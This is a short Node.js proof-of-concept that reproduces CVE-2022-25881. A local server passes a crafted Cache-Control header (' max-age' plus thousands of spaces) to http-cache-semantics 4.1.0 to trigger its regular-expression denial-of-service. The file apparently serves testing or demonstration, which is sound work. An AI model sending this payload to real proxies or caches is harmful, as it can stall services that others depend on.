// A caching proxy on node:http decides whether it may store an upstream response with
// http-cache-semantics 4.1.0. The upstream's Cache-Control header is crafted (CVE-2022-25881).
'use strict';
const http = require('node:http');
const CachePolicy = require('http-cache-semantics');

const upstreamRequest = { method: 'GET', url: '/catalogue', headers: { host: 'origin.local' } };
const upstreamResponse = { status: 200, headers: { 'content-type': 'application/json', 'cache-control': ' max-age' + ' '.repeat(6500) + 'x' } };

http.createServer((req, res) => {
  if (req.url === '/health') return res.end('ok');
  const policy = new CachePolicy(upstreamRequest, upstreamResponse);
  res.setHeader('Content-Type', 'application/json');
  res.end(JSON.stringify({ storable: policy.storable(), ttl: policy.timeToLive() }));
}).listen(Number(process.env.PORT) || 0, '127.0.0.1');
